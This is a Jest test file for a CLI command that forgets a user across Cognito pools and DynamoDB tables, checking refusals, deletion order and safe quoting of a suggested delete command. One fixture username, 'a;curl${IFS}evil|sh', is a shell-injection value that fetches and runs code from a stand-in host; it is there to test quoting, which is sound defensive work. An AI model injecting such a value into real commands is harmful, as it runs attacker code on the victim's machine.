import { ListUsersCommand } from '@aws-sdk/client-cognito-identity-provider';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DeleteCommand, DynamoDBDocumentClient, GetCommand, QueryCommand, ScanCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import { Ask } from '../../src/cli/ask';
import { CliError } from '../../src/cli/cli-error';
import { ledgerOf } from '../../src/cli/read-ledger';
import { personOf } from '../../src/cli/read-person';
import { forget } from '../../src/cli/run-forget';
import { Session } from '../../src/cli/session';
import { Terminal } from '../../src/cli/terminal';
import { fieldsOfReturn } from '../../src/ledger/recovered-subs';
import { Item, items, UserRow } from '../../src/ledger/schema';
import { Link, linkItems } from '../../src/state/link';

jest.mock('../../src/cli/gather-status', () => ({ gatherStatus: async () => ({ running: [], unread: [] }) }));

const [OLD, NEW, STANDBY] = ['us-east-1_AbCdEfGhI', 'us-east-1_JkLmNoPqR', 'us-west-2_AbCdEfGhI'];
const [OLD_SUB, NEW_SUB, THERE, OTHER] = ['1', '2', '3', '4'].map(digit => `${digit.repeat(8)}-7d0e-4d3b-9a52-0c1f7c8b7f10`);
const user = (poolId: string, sub: string, username: string): UserRow => ({
  poolId, sub, username, attributes: {}, enabled: true, status: 'CONFIRMED', createdAt: 1, modifiedAt: 1, digest: 'd', observedAt: 2,
});
const link = (sourceSub: string, targetSub: string): Link =>
  ({ sourceSub, targetSub, firstSub: sourceSub, image: { attributes: {}, enabled: true, groups: [] }, execution: 'run', restored: true, at: 3 });

/** Both tables as one, which answers as DynamoDB does. */
const tables = mockClient(DynamoDBDocumentClient);
let kept: Item[] = [];
/** Users who live, by pool; a pool that is not here cannot be read. */
let living: Record<string, readonly { readonly Username: string; readonly sub: string; readonly status?: string }[]> = {};
const written: string[] = [];

beforeEach(() => {
  written.length = 0;
  living = { [OLD]: [], [NEW]: [], [STANDBY]: [] };
  kept = [
    items.source({ poolId: OLD, sweepStartedAt: 1, sweptAt: 2 }), items.source({ poolId: NEW, sweepStartedAt: 3, sweptAt: 4 }),
    items.user(user(OLD, OLD_SUB, 'before')), items.user(user(NEW, OTHER, 'other')),
    ...linkItems(OLD, NEW, link(OLD_SUB, NEW_SUB)), ...linkItems(NEW, STANDBY, link(NEW_SUB, THERE)),
    items.group({ poolId: NEW, name: 'admins', observedAt: 1 }), items.membership({ poolId: NEW, group: 'admins', sub: OTHER, observedAt: 1 }),
  ];
  tables.reset();
  tables.on(GetCommand).callsFake(({ Key: { pk, sk } }) => ({ Item: kept.find(item => item.pk === pk && item.sk === sk) }));
  tables.on(QueryCommand).callsFake(({ ExpressionAttributeValues: values }) =>
    ({ Items: kept.filter(({ pk }) => Object.values(values).includes(pk)) }));
  tables.on(ScanCommand).callsFake(({ TableName, Segment }) => ({ Items: TableName === 'ledger' && Segment === 0 ? kept : [] }));
  tables.on(DeleteCommand).callsFake(({ Key: { pk, sk } }) => {
    written.push(`${pk} ${sk}`);
    kept = kept.filter(item => item.pk !== pk || item.sk !== sk);
  });
});

const session = {
  aws: {
    table: () => DynamoDBDocumentClient.from(new DynamoDBClient({ region: 'us-east-1' })),
    resources: async () => [],
    cognito: () => ({
      send: async ({ input }: ListUsersCommand) => {
        const users = living[input.UserPoolId!];
        if (!users) throw Object.assign(new Error('denied'), { name: 'AccessDeniedException' });
        return {
          Users: users.filter(({ sub }) => input.Filter === `sub = "${sub}"`).map(({ Username, sub, status = 'CONFIRMED' }) =>
            ({ Username, UserStatus: status, Enabled: true, Attributes: [{ Name: 'sub', Value: sub }], UserCreateDate: new Date(1), UserLastModifiedDate: new Date(1) })),
        };
      },
    }),
  },
  deployment: { ledgerTableName: 'ledger', stateTableName: 'state', primaryRegion: 'us-east-1', replicaRegion: 'us-west-2', standbyUserPoolId: STANDBY },
  stacks: [{ region: 'us-east-1', deployment: {} }, { region: 'us-west-2', deployment: {} }],
} as unknown as Session;

let shown = '';
const stream = { write: (text: string) => { shown += text; return true; } };
async function run(sub: string, options: object = {}, format: 'json' | 'jsonl' = 'json') {
  shown = '';
  const terminal = new Terminal(format, { stdin: {}, stdout: stream, stderr: stream } as never);
  const exit = await forget({ terminal, session, args: [sub], options: { confirm: sub, ...options } } as unknown as Ask);
  return { exit, shown };
}
async function refused(sub: string, options: object = {}): Promise<CliError> {
  return run(sub, options).then(() => { throw new Error('it went on'); }, (error: CliError) => error);
}

test.each([NEW, OLD, STANDBY, 'U', 'M', 'S', 'admins', 'RUN', 'run', 'PLAN', 'SOURCE', '', 'x'.repeat(1_025), `${OTHER}-2`])(
  'what is no sub of anybody is refused, and nothing is deleted: %p', async given => {
    expect(await refused(given)).toMatchObject({ exit: 4, code: 'unknown-sub', message: expect.stringContaining(`got "${given}", want the sub`) });
    expect([written, tables.commandCalls(UpdateCommand)]).toEqual([[], []]);
  });

describe('a person', () => {
  const person = async (sub: string) => personOf(session, await ledgerOf(session), sub);

  test.each([['of the old pool', OLD_SUB], ['of the new one', NEW_SUB], ['of the standby', THERE]])('is known by the sub %s in all pools, and by every name', async (_, sub) => {
    const { subs, names } = await person(sub);
    expect([[...subs].sort(), [...names]]).toEqual([[OLD_SUB, NEW_SUB, THERE], ['before']]);
  });

  test('is not whoever a user of the target became since', async () => {
    kept.push(...linkItems(NEW, STANDBY, link(OTHER, THERE)).slice(0, 1));
    expect([...(await person(OTHER)).subs]).toEqual([OTHER]);
  });

  test('who came back in a pool that was replaced is known by every return', async () => {
    kept.push(...fieldsOfReturn(OLD, { replaced: 'aaaaaaaa-first', sub: OLD_SUB, firstSub: 'aaaaaaaa-first', execution: 'e', at: 1 })
      .slice(0, 2).map(({ key, fields }) => ({ ...fields, ...key })));
    expect((await person(NEW_SUB)).subs).toContain('aaaaaaaa-first');
  });
});

test('of a replaced pool the row goes as well, links last; nobody else\'s goes', async () => {
  expect(await run(NEW_SUB)).toMatchObject({ exit: 0 });
  expect(kept.map(({ pk, sk }) => `${pk} ${sk}`)).toEqual([
    `SOURCE ${OLD}`, `SOURCE ${NEW}`, `${NEW}#U#44 ${OTHER}`, `${NEW}#G admins`, `${NEW}#M#admins ${OTHER}`,
  ]);
  expect(written[0]).toBe(`${OLD}#U#11 ${OLD_SUB}`);
  expect(written).toHaveLength(5);
});

test('a plan is a record under --jsonl, too', async () => {
  const { exit, shown: said } = await run(NEW_SUB, { planOnly: true }, 'jsonl');
  expect([exit, written]).toEqual([0, []]);
  expect(JSON.parse(said)).toMatchObject({ tables: [{ table: 'ledger', deleted: 5 }, { table: 'state', deleted: 0 }] });
});

describe('a user who lives', () => {
  const evil = { Username: 'a;curl${IFS}evil|sh', sub: THERE };

  test('in the standby is named by the sub in the command to be pasted; a name is quoted where Cognito wants it', async () => {
    living[STANDBY] = [evil];
    const { message } = await refused(NEW_SUB);
    expect(message).toMatch(new RegExp(`admin-delete-user --region us-west-2 --user-pool-id ${STANDBY} --username ${THERE}$`));
    living[STANDBY] = [{ ...evil, status: 'EXTERNAL_PROVIDER' }];
    expect((await refused(NEW_SUB)).message).toMatch(/--username 'a;curl\$\{IFS\}evil\|sh'$/);
  });

  test.each([['was replaced', OLD, OLD_SUB], ['a link names', 'us-east-2_Target001', 'of-target']])('in a pool that %s', async (_, pool, sub) => {
    kept.push(...linkItems(NEW, 'us-east-2_Target001', link(NEW_SUB, 'of-target')));
    stateToo();
    living[pool] = [{ Username: 'x', sub }];
    expect(await refused(NEW_SUB)).toMatchObject({ exit: 3, code: 'user-lives-elsewhere', message: expect.stringContaining(`--user-pool-id ${pool} --username ${sub}`) });
    expect(written).toEqual([]);
  });

  test('in a pool that cannot be read is listed under what stays', async () => {
    delete living[OLD];
    const { exit, shown: said } = await run(NEW_SUB);
    expect([exit, said]).toEqual([0, expect.stringContaining(`the user in the pool ${OLD}, if still there: it could not be read`)]);
  });

  /** The links are in the state table. */
  function stateToo() {
    tables.on(ScanCommand).callsFake(({ Segment }) => ({ Items: Segment === 0 ? kept : [] }));
  }
});

test('a receipt that cannot be written is said before the question', async () => {
  expect(await refused(NEW_SUB, { out: '/nowhere/receipt.json' })).toMatchObject({ exit: 64, message: expect.stringContaining('--out: /nowhere/receipt.json cannot') });
  expect(written).toEqual([]);
});
